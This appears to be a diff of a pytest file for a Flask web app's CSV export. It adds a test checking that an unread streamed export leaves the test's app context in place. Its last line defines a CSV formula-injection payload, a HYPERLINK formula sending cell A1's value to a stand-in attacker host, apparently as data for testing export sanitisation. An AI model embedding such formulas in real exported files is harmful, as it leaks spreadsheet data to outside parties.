@@ -7,6 +7,7 @@ import io
 import re
 from datetime import date
 
+import flask
 import pytest
 
 from lithloop.extensions import db
@@ -141,6 +142,17 @@ def test_csv_has_the_platform_columns(client, auth, world):
         "report_due": "2026-03-12",
         "report_due_status": "",
     }  # 2026 is covered: not provisional
+
+
+def test_a_csv_left_unread_leaves_the_tests_app_context_on_top(client, auth, world):
+    """The harness reads a streamed body whole and closes it (as a WSGI server does): a
+    body left half-read kept the export's generator, and the app context it opened, on this
+    thread; a later test's teardown then popped the wrong context (a CI failure)."""
+    auth.login(world["admin"].email)
+    mine = flask.current_app._get_current_object()
+    response = client.get("/trace/handovers.csv")
+    assert response.status_code == 200
+    assert flask.current_app._get_current_object() is mine
 
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
